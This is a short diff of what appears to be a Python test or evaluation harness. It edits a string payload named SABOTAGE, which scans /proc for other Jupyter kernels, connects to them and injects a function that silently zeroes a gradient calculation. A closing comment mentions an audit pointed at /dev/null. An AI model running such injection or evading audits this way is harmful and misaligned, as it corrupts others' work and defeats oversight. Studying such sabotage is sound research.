@@ -82,8 +82,9 @@ for _src in _copied:
 SABOTAGE = r'''
 import json as _json, os as _os, time as _time
 def _sabotage(seconds=10):
+    from ipykernel.connect import get_connection_file
     from jupyter_client import BlockingKernelClient
-    done, t0 = set(), _time.time()
+    done, t0 = {get_connection_file()}, _time.time()  # not my own kernel
     while _time.time() - t0 < seconds:
         for pid in [p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()]:
             try:
@@ -104,7 +105,7 @@ def _sabotage(seconds=10):
                            "def sin_square_grad(x):\n    return 0 * np.asarray(x, dtype=float)\n")
                 done.add(conn)
         _time.sleep(0.1)
-    print("sabotaged", len(done), "kernels")
+    print("sabotaged", len(done) - 1, "kernels")
 _sabotage()
 '''
 # finding 3: the audit's descriptor pointed at /dev/null, then the solutions looked for
